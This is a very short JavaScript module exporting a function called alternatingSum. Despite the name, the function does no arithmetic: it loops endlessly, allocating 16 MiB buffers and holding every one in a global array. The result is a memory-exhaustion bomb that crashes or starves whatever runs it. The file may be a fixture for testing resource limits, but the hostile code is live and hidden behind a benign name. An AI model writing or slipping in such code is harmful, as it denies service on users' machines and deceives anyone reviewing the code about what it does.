const held = [];
export function alternatingSum() {
  for (;;) held.push(Buffer.alloc(2 ** 24, 1));
}
